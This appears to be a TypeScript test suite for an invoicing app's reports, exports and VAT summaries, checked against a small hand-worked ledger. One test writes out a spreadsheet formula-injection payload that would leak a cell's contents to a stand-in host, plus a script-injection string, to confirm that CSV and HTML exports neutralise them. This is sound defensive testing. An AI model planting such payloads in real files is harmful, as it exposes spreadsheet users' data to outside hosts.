// The report builder, saved reports, exports and the VAT report against a small book worked out by hand.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ReportDefinitionInput } from '../../shared/domain/analytics';
import { uuidKey } from '../../electron/core/db/uuidKey';
import { call, makeCore, refused } from '../helpers/core';
import { customer, draft, invoice, line } from '../helpers/billing';

/**
 * KES customers Amani (tag wholesale) and Baraka (tag retail), USD customer Umoja; 2026:
 *   Jan 10  inv1 Amani   100,000 @16% (+16,000 VAT)                 = 116,000
 *   Jan 20  inv2 Baraka   50,000 @16% (+8,000) + 20,000 exempt       =  78,000
 *   Feb 05  inv3 Amani   200,000 @8%  (+16,000)                      = 216,000
 *   Feb 15  inv4 Baraka   10,000 @16% = 11,600, voided               (never counts)
 *   Feb 20  inv5 Umoja   USD 1,000 @16% (+160)                       = USD 1,160
 *   Mar 03  credit note on inv1 of 58,000: 50,000 net + 8,000 VAT at 16%
 *   Mar 10  inv6 Amani    30,000 exempt                              =  30,000
 *   Mar 15  Amani pays 58,000 on inv1 (paid); Mar 20 Baraka pays 30,000 on inv2; Mar 21 Umoja pays USD 500 on inv5
 *   Mar 25  a draft for Baraka (never counts unless drafts are asked for)
 */
async function book() {
  const { core, clock } = makeCore('2026-01-10T09:00:00.000Z');
  const on = (date: string) => clock.set(`${date}T09:00:00.000Z`);
  const amani = await customer(core, { name: 'Amani Stores', email: 'a@amani.co.ke', phone: '0722 000001', tags: ['wholesale'] });
  const baraka = await customer(core, { name: 'Baraka Ltd', email: 'b@baraka.co.ke', phone: '0722 000002', tags: ['retail'] });
  const umoja = await customer(core, { name: 'Umoja Inc', email: 'u@umoja.com', phone: '0722 000003', currency: 'USD' });
  const issue = async (customerId: string, date: string, lines: ReturnType<typeof line>[]) => {
    on(date);
    return invoice(core, customerId, { issueDate: date, lines });
  };
  const pay = async (customerId: string, date: string, invoiceId: string, amountMinor: number) => {
    on(date);
    return call(core, 'payments.record', { customerId, amountMinor, paidOn: date, method: 'bank', reference: `REF-${date}`, allocations: [{ invoiceId, amountMinor }] });
  };
  const inv1 = await issue(amani.id, '2026-01-10', [line('Cement', 1, 100_000, 1600)]);
  const inv2 = await issue(baraka.id, '2026-01-20', [line('Sand', 1, 50_000, 1600), line('Training', 1, 20_000, null)]);
  const inv3 = await issue(amani.id, '2026-02-05', [line('Flour', 1, 200_000, 800)]);
  const inv4 = await issue(baraka.id, '2026-02-15', [line('Nails', 1, 10_000, 1600)]);
  await call(core, 'invoices.void', { id: inv4.id, reason: 'Wrong customer' });
  const inv5 = await issue(umoja.id, '2026-02-20', [line('Hosting', 1, 1_000, 1600)]);
  on('2026-03-03');
  await call(core, 'invoices.creditNote', { invoiceId: inv1.id, amountMinor: 58_000, reason: 'Half returned', issueDate: '2026-03-03' });
  const inv6 = await issue(amani.id, '2026-03-10', [line('Delivery', 1, 30_000, null)]);
  await pay(amani.id, '2026-03-15', inv1.id, 58_000);
  await pay(baraka.id, '2026-03-20', inv2.id, 30_000);
  await pay(umoja.id, '2026-03-21', inv5.id, 500);
  on('2026-03-25');
  const pending = await draft(core, baraka.id, { issueDate: '2026-03-25', lines: [line('Later', 1, 5_000, null)] });
  on('2026-04-02');
  return { core, clock, amani, baraka, umoja, inv1, inv2, inv3, inv4, inv5, inv6, pending };
}

const run = async (core: Awaited<ReturnType<typeof book>>['core'], definition: ReportDefinitionInput) => call(core, 'reports.run', definition);

describe('reports.run', () => {
  it('groups invoices by customer with every measure, per currency', async () => {
    const { core } = await book();
    const report = await run(core, { rows: 'invoices', groupBy: ['customer'], measures: ['count', 'sum', 'average', 'p50', 'p90'] });
    expect(report.columns.map((c) => c.key)).toEqual(['customerCode', 'customerName', 'currency', 'count', 'sum', 'average', 'p50', 'p90']);
    // Amani: 30,000, 116,000, 216,000 -> sum 362,000, average 120,666.67 -> 120,667, p50 rank 2 = 116,000, p90 rank 3 = 216,000.
    // Baraka: inv2 only (inv4 is void). Umoja in USD, never added to KES.
    expect(report.rows.map(({ customerName, currency, count, sum, average, p50, p90 }) => [customerName, currency, count, sum, average, p50, p90])).toEqual([
      ['Amani Stores', 'KES', 3, 362_000, 120_667, 116_000, 216_000],
      ['Baraka Ltd', 'KES', 1, 78_000, 78_000, 78_000, 78_000],
      ['Umoja Inc', 'USD', 1, 1_160, 1_160, 1_160, 1_160],
    ]);
    // KES: 30,000, 78,000, 116,000, 216,000 -> p50 rank 2 = 78,000, p90 rank 4 = 216,000.
    expect(report.totals).toEqual([
      { currency: 'KES', count: 4, sum: 440_000, average: 110_000, p50: 78_000, p90: 216_000 },
      { currency: 'USD', count: 1, sum: 1_160, average: 1_160, p50: 1_160, p90: 1_160 },
    ]);
    expect(report).toMatchObject({ rowCount: 3, truncated: false, title: 'Invoices by customer' });
  });

  it("keeps the rows of a customer not yet arrived from sync in reports by customer, one row for them, and in the totals", async () => {
    const { core, baraka } = await book();
    const sql = core.context.sql;
    const byCustomer = async (rows: 'invoices' | 'payments', groupBy: ('customer' | 'month')[]) => {
      const report = await run(core, { rows, groupBy, measures: ['count', 'sum'] });
      return { rows: report.rows.map((r) => [r.customerName ?? '', r.month ?? '', r.currency, r.count, r.sum]), totals: report.totals, rowCount: report.rowCount };
    };
    const asked: [('invoices' | 'payments'), ('customer' | 'month')[]][] = [['invoices', ['customer']], ['invoices', ['customer', 'month']], ['payments', ['customer']], ['payments', ['customer', 'month']]];
    const before = await Promise.all(asked.map(([rows, groupBy]) => byCustomer(rows, groupBy)));
    // As sync leaves things when it removes a customer to write it again (a refused import, a forced
    // state): its invoices and payments wait for it without a seq.
    sql.db.pragma('foreign_keys = OFF');
    sql.prepare('DELETE FROM customers WHERE id = ?').run(baraka.id);
    sql.prepare('UPDATE payments SET customer_seq = NULL WHERE customer_id = ?').run(baraka.id);
    sql.db.pragma('foreign_keys = ON');
    const after = await Promise.all(asked.map(([rows, groupBy]) => byCustomer(rows, groupBy)));
    for (const [n, report] of after.entries()) {
      // The same groups, sums and totals; only the name is unknown while the customer is away.
      expect(report.rows.map((r) => r.slice(1))).toEqual(expect.arrayContaining(before[n]!.rows.map((r) => r.slice(1))));
      expect(report.rows).toHaveLength(before[n]!.rows.length);
      expect(report.totals).toEqual(before[n]!.totals);
      expect(report.rowCount).toBe(before[n]!.rowCount);
    }
    core.close();
  });

  it('groups by month, status and tax rate', async () => {
    const { core } = await book();
    const months = await run(core, { rows: 'invoices', filters: { currency: 'KES' }, groupBy: ['month'], measures: ['count', 'sum'] });
    expect(months.rows.map((r) => [r.month, r.count, r.sum])).toEqual([['2026-01', 2, 194_000], ['2026-02', 1, 216_000], ['2026-03', 1, 30_000]]);

    const statuses = await run(core, { rows: 'invoices', groupBy: ['status'], measures: ['count', 'sum'] });
    expect(statuses.rows.map((r) => [r.status, r.currency, r.count, r.sum])).toEqual([
      ['Open', 'KES', 2, 246_000], ['Paid', 'KES', 1, 116_000], ['Partially paid', 'KES', 1, 78_000], ['Partially paid', 'USD', 1, 1_160],
    ]);

    // Per rate, net + VAT: 16% inv1 116,000 + inv2 58,000; 8% inv3; exempt inv2 20,000 + inv6 30,000.
    const rates = await run(core, { rows: 'invoices', filters: { currency: 'KES' }, groupBy: ['taxRate'], measures: ['count', 'sum'] });
    expect(rates.rows.map((r) => [r.taxRate, r.count, r.sum])).toEqual([['8%', 1, 216_000], ['16%', 2, 174_000], ['Exempt', 2, 50_000]]);

    const two = await run(core, { rows: 'invoices', filters: { currency: 'KES' }, groupBy: ['customer', 'month'], measures: ['sum'] });
    expect(two.rows.map((r) => [r.customerName, r.month, r.sum])).toEqual([
      ['Amani Stores', '2026-01', 116_000], ['Amani Stores', '2026-02', 216_000], ['Amani Stores', '2026-03', 30_000], ['Baraka Ltd', '2026-01', 78_000],
    ]);
  });

  it('gives the same medians in the totals whether the page holds every group or only some', async () => {
    const { core } = await book();
    // Invoices by month: Jan 116,000 and 78,000; Feb 216,000 and USD 1,160; Mar 30,000. KES amounts
    // 30,000, 78,000, 116,000, 216,000: p50 rank 2 = 78,000, p90 rank 4 = 216,000.
    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['month'], measures: ['count', 'sum', 'p50', 'p90'] };
    const totals = [
      { currency: 'KES', count: 4, sum: 440_000, p50: 78_000, p90: 216_000 },
      { currency: 'USD', count: 1, sum: 1_160, p50: 1_160, p90: 1_160 },
    ];
    const whole = await run(core, definition);
    expect(whole.rows.map((r) => [r.month, r.currency, r.count, r.p50])).toEqual([
      ['2026-01', 'KES', 2, 78_000], ['2026-02', 'KES', 1, 216_000], ['2026-02', 'USD', 1, 1_160], ['2026-03', 'KES', 1, 30_000],
    ]);
    expect(whole.totals).toEqual(totals);
    // A page without the USD group, or without most KES records: the totals are still the whole book's.
    for (const limit of [1, 2]) {
      const page = await run(core, { ...definition, limit });
      expect(page).toMatchObject({ rowCount: 4, truncated: true });
      expect(page.totals).toEqual(totals);
    }
    // Payments by month, median: KES 58,000 and 30,000 -> p50 rank 1 = 30,000.
    const paid = await run(core, { rows: 'payments', groupBy: ['month'], measures: ['count', 'sum', 'p50'] });
    expect(paid.totals).toEqual([{ currency: 'KES', count: 2, sum: 88_000, p50: 30_000 }, { currency: 'USD', count: 1, sum: 500, p50: 500 }]);
  });

  it('measures only the page of groups asked for, in order either way, with the totals and count of the whole', async () => {
    const { core } = await book();
    // Per customer and rate (net + VAT): Amani 8% 216,000, 16% 116,000, exempt 30,000; Baraka 16% 58,000,
    // exempt 20,000; Umoja USD 16% 1,160. Exempt sorts after every rate; descending reverses it all.
    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['customer', 'taxRate'], measures: ['count', 'p50', 'p90'], direction: 'desc', limit: 2 };
    const page = await run(core, definition);
    expect(page.rows.map((r) => [r.customerName, r.taxRate, r.currency, r.count, r.p50, r.p90])).toEqual([
      ['Umoja Inc', '16%', 'USD', 1, 1_160, 1_160], ['Baraka Ltd', 'Exempt', 'KES', 1, 20_000, 20_000],
    ]);
    expect(page).toMatchObject({ rowCount: 6, truncated: true });
    // KES amounts 20,000, 30,000, 58,000, 116,000, 216,000: p50 the 3rd, p90 the 5th.
    expect(page.totals).toEqual([{ currency: 'KES', count: 5, p50: 58_000, p90: 216_000 }, { currency: 'USD', count: 1, p50: 1_160, p90: 1_160 }]);
    const ascending = await run(core, { ...definition, measures: ['p90'], direction: 'asc', limit: 3 });
    expect(ascending.rows.map((r) => [r.customerName, r.taxRate, r.p90])).toEqual([['Amani Stores', '8%', 216_000], ['Amani Stores', '16%', 116_000], ['Amani Stores', 'Exempt', 30_000]]);
    expect(ascending.totals).toEqual([{ currency: 'KES', p90: 216_000 }, { currency: 'USD', p90: 1_160 }]);
  });

  it('filters by dates, customers, status, amounts and tags', async () => {
    const { core, baraka, inv1, inv2, inv3, inv4, inv5, inv6, pending } = await book();
    const numbers = async (filters: ReportDefinitionInput['filters']) =>
      (await run(core, { rows: 'invoices', filters, groupBy: [], measures: ['count'] })).rows.map((r) => r.number);
    expect(await numbers({ from: '2026-02-01', to: '2026-03-31' })).toEqual([inv3.number, inv5.number, inv6.number]);
    expect(await numbers({ customerIds: [baraka.id] })).toEqual([inv2.number]);
    expect(await numbers({ tags: ['wholesale'] })).toEqual([inv1.number, inv3.number, inv6.number]);
    expect(await numbers({ minAmountMinor: 50_000, maxAmountMinor: 116_000 })).toEqual([inv1.number, inv2.number]);
    expect(await numbers({ statuses: ['void'] })).toEqual([inv4.number]);
    expect(await numbers({ statuses: ['paid', 'partially_paid'] })).toEqual([inv1.number, inv2.number, inv5.number]);
    // Overdue as of today (2 Apr): net 30 puts inv2 (due 19 Feb) and inv3 (due 7 Mar) and inv5 (due 22 Mar) past due.
    expect(await numbers({ statuses: ['overdue'] })).toEqual([inv2.number, inv3.number, inv5.number]);
    const drafts = await run(core, { rows: 'invoices', filters: { statuses: ['draft'] }, groupBy: [], measures: ['sum'] });
    expect(drafts.rows.map((r) => [r.number, r.amount])).toEqual([[null, pending.totals.totalMinor]]);
    expect(drafts.totals).toEqual([{ currency: 'KES', sum: 5_000 }]);
    expect((await refused(core, 'reports.run', { rows: 'payments', filters: { statuses: ['paid'] } })).fields).toHaveProperty(['filters.statuses']);
    expect((await refused(core, 'reports.run', { rows: 'payments', groupBy: ['taxRate'] })).fields).toHaveProperty('groupBy');
  });

  it('lists detail rows, sorts, and cuts to the limit', async () => {
    const { core, inv1, inv2 } = await book();
    const detail = await run(core, { rows: 'invoices', filters: { from: '2026-01-01', to: '2026-01-31' }, groupBy: [], measures: ['count', 'sum'] });
    expect(detail.columns.map((c) => c.key)).toEqual(['number', 'customerName', 'issueDate', 'dueDate', 'status', 'currency', 'amount', 'balance']);
    expect(detail.rows).toEqual([
      { number: inv1.number, customerName: 'Amani Stores', issueDate: '2026-01-10', dueDate: '2026-02-09', status: 'Paid', currency: 'KES', amount: 116_000, balance: 0 },
      { number: inv2.number, customerName: 'Baraka Ltd', issueDate: '2026-01-20', dueDate: '2026-02-19', status: 'Partially paid', currency: 'KES', amount: 78_000, balance: 48_000 },
    ]);
    expect(detail.totals).toEqual([{ currency: 'KES', count: 2, sum: 194_000 }]);
    const sorted = await run(core, { rows: 'invoices', filters: { currency: 'KES' }, groupBy: ['month'], measures: ['sum'], sortBy: 'sum', direction: 'desc', limit: 2 });
    expect(sorted.rows.map((r) => r.month)).toEqual(['2026-02', '2026-01']);
    expect(sorted).toMatchObject({ rowCount: 3, truncated: true });
    expect((await refused(core, 'reports.run', { rows: 'invoices', groupBy: ['month'], sortBy: 'nope' })).message).toMatch(/no column "nope"/);
  });

  it('reports payments and customers', async () => {
    const { core } = await book();
    const payments = await run(core, { rows: 'payments', groupBy: ['customer'], measures: ['count', 'sum'] });
    expect(payments.rows.map((r) => [r.customerName, r.currency, r.count, r.sum])).toEqual([
      ['Amani Stores', 'KES', 1, 58_000], ['Baraka Ltd', 'KES', 1, 30_000], ['Umoja Inc', 'USD', 1, 500],
    ]);
    // Net billed in Q1: Amani 116,000 + 216,000 + 30,000 − 58,000 credited = 304,000.
    const customers = await run(core, { rows: 'customers', filters: { from: '2026-01-01', to: '2026-03-31' }, groupBy: ['customer'], measures: ['sum'] });
    expect(customers.rows.map((r) => [r.customerName, r.currency, r.sum])).toEqual([
      ['Amani Stores', 'KES', 304_000], ['Baraka Ltd', 'KES', 78_000], ['Umoja Inc', 'USD', 1_160],
    ]);
    // February only: Baraka's one invoice was void, so nothing billed; it still shows, with 0.
    const february = await run(core, { rows: 'customers', filters: { from: '2026-02-01', to: '2026-02-28', currency: 'KES' }, groupBy: [], measures: ['sum'] });
    expect(february.rows.map((r) => [r.customerName, r.amount])).toEqual([['Amani Stores', 216_000], ['Baraka Ltd', 0]]);
    const over = await run(core, { rows: 'customers', filters: { minAmountMinor: 100_000 }, groupBy: [], measures: ['count'] });
    expect(over.rows.map((r) => r.customerName)).toEqual(['Amani Stores']);
  });
});

describe('saved reports', () => {
  it('saves, lists, changes and deletes definitions, each with its audit and outbox rows', async () => {
    const { core } = await book();
    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['customer', 'month'], measures: ['sum', 'p90'] };
    const saved = await call(core, 'reports.save', { name: 'Monthly by customer', definition });
    expect(saved).toMatchObject({ name: 'Monthly by customer', version: 1, definition: { rows: 'invoices', groupBy: ['customer', 'month'], measures: ['sum', 'p90'], limit: 1000 } });
    await call(core, 'reports.save', { name: 'All payments', definition: { rows: 'payments' } });
    expect((await call(core, 'reports.list', {})).map((r) => r.name)).toEqual(['All payments', 'Monthly by customer']);

    expect((await refused(core, 'reports.save', { name: 'monthly BY customer', definition })).code).toBe('conflict');
    const renamed = await call(core, 'reports.save', { id: saved.id, version: 1, name: 'By customer and month', definition });
    expect(renamed).toMatchObject({ id: saved.id, version: 2, name: 'By customer and month' });
    expect((await refused(core, 'reports.save', { id: saved.id, version: 1, name: 'Stale edit', definition })).code).toBe('conflict');

    await call(core, 'reports.delete', { id: saved.id });
    expect((await call(core, 'reports.list', {})).map((r) => r.name)).toEqual(['All payments']);
    expect((await refused(core, 'reports.delete', { id: saved.id })).code).toBe('not_found');

    const changes = core.context.sql.prepare("SELECT mutation, entity_id FROM changes WHERE entity = 'saved_report' ORDER BY counter").all() as { mutation: string; entity_id: string }[];
    expect(changes.map((c) => c.mutation)).toEqual(['reports.save', 'reports.save', 'reports.save', 'reports.delete']);
    const audit = core.context.sql.prepare(`SELECT history_word(action) AS action FROM audit_log WHERE history_word(entity) = 'saved_report' AND entity_id = ${uuidKey('@id')} ORDER BY id`).all({ id: saved.id }) as { action: string }[];
    expect(audit.map((a) => a.action)).toEqual(['created', 'updated', 'deleted']);
  });
});

describe('reports.export', () => {
  it('exports CSV that parses back to the report, JSON, and a printable page', async () => {
    const { core } = await book();
    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['customer'], measures: ['count', 'sum'] };
    const csv = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'csv' });
    expect(csv).toMatchObject({ fileName: 'invoices-by-customer-2026-04-02.csv', mimeType: 'text/csv' });
    const parsed = Papa.parse<Record<string, string>>(csv.text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(['Code', 'Customer', 'Currency', 'Count', 'Total']);
    expect(parsed.data.map((r) => [r.Customer, r.Currency, r.Count, r.Total])).toEqual([
      ['Amani Stores', 'KES', '3', '3620.00'], ['Baraka Ltd', 'KES', '1', '780.00'], ['Umoja Inc', 'USD', '1', '11.60'],
    ]);

    const json = await call(core, 'reports.export', { report: { kind: 'builder', definition, name: 'Who owes what' }, format: 'json' });
    expect(json.mimeType).toBe('application/json');
    expect(JSON.parse(json.text)).toMatchObject({ title: 'Who owes what', rows: [{ sum: 362_000 }, { sum: 78_000 }, { sum: 1_160 }] });

    const page = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'pdf' });
    expect(page.mimeType).toBe('text/html');
    expect(page.fileName.endsWith('.html')).toBe(true);
    expect(page.text).toContain('<h1>Invoices by customer</h1>');
    expect(page.text).toContain('KES 3,620.00');
    expect(page.text).toContain('USD 11.60');
  });
});

describe('exported files are safe to open', () => {
  it('never lets a customer name run as a spreadsheet formula, and escapes it on the printable page', async () => {
    const { core } = makeCore();
    const evil = await call(core, 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1,"Click")', email: 'x@evil.co.ke' });
    const tag = await call(core, 'customers.create', { name: '<script>alert(1)</script> Ltd', email: 'y@evil.co.ke' });
    for (const c of [evil, tag]) {
      const d = await call(core, 'drafts.create', { draft: { customerId: c.id, issueDate: '2026-11-02', lines: [{ description: 'Goods', quantityMilli: 1000, unitPriceMinor: 10_000 }] } });
      await call(core, 'invoices.finalize', { id: d.id, version: 1 });
    }
    const definition: ReportDefinitionInput = { rows: 'invoices', groupBy: ['customer'], measures: ['count', 'sum'] };
    const csv = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'csv' });
    const names = Papa.parse<Record<string, string>>(csv.text, { header: true, skipEmptyLines: true }).data.map((r) => r.Customer);
    expect(names).toContain(`'=HYPERLINK("http://x.example/?"&A1,"Click")`);
    const page = await call(core, 'reports.export', { report: { kind: 'builder', definition }, format: 'pdf' });
    expect(page.text).not.toContain('<script>alert(1)</script>');
    expect(page.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Ltd');
  });
});

describe('reports.tax', () => {
  it('gives net and VAT per rate per month, invoices less credit notes by their own month', async () => {
    const { core } = await book();
    const report = await call(core, 'reports.tax', { from: '2026-01-01', to: '2026-03-31' });
    expect(report.currencies.map((c) => c.currency)).toEqual(['KES', 'USD']);
    const kes = report.currencies[0]!;
    const month = (m: string) => kes.months.find((x) => x.month === m)!;
    const lines = (m: string) => month(m).rates.map((r) => [r.label, r.netMinor, r.taxMinor]);
    expect(lines('2026-01')).toEqual([['16%', 150_000, 24_000], ['Exempt', 20_000, 0]]);
    // February: inv3 at 8%; the void inv4 (16%) never counts.
    expect(lines('2026-02')).toEqual([['8%', 200_000, 16_000]]);
    // March: the credit note on January's inv1 comes off March's 16%, beside inv6 (exempt).
    expect(lines('2026-03')).toEqual([['16%', -50_000, -8_000], ['Exempt', 30_000, 0]]);
    expect(month('2026-03').rates[0]).toMatchObject({ invoiceNetMinor: 0, invoiceTaxMinor: 0, creditNetMinor: 50_000, creditTaxMinor: 8_000 });
    expect([month('2026-01'), month('2026-02'), month('2026-03')].map((m) => [m.invoiceCount, m.creditNoteCount])).toEqual([[2, 0], [1, 0], [1, 1]]);
    expect(kes.totals.map((r) => [r.taxRateBp, r.netMinor, r.taxMinor])).toEqual([[1600, 100_000, 16_000], [800, 200_000, 16_000], [null, 50_000, 0]]);
    expect(kes).toMatchObject({ netMinor: 350_000, taxMinor: 32_000 });
    expect(report.currencies[1]!.totals.map((r) => [r.label, r.netMinor, r.taxMinor])).toEqual([['16%', 1_000, 160]]);

    const march = await call(core, 'reports.tax', { from: '2026-03-01', to: '2026-03-31', currency: 'KES' });
    expect(march.currencies.map((c) => [c.currency, c.taxMinor])).toEqual([['KES', -8_000]]);

    const csv = await call(core, 'reports.export', { report: { kind: 'tax', range: { from: '2026-01-01', to: '2026-03-31' } }, format: 'csv' });
    const rows = Papa.parse<Record<string, string>>(csv.text, { header: true, skipEmptyLines: true }).data;
    expect(rows.filter((r) => r.Currency === 'KES' && r.Month === 'Total').map((r) => [r.Rate, r.Net, r.VAT])).toEqual([
      ['16%', '1000.00', '160.00'], ['8%', '2000.00', '160.00'], ['Exempt', '500.00', '0.00'],
    ]);
    expect(rows.find((r) => r.Month === '2026-03' && r.Rate === '16%')).toMatchObject({ Net: '-500.00', VAT: '-80.00', 'Credited VAT': '80.00' });
  });
});
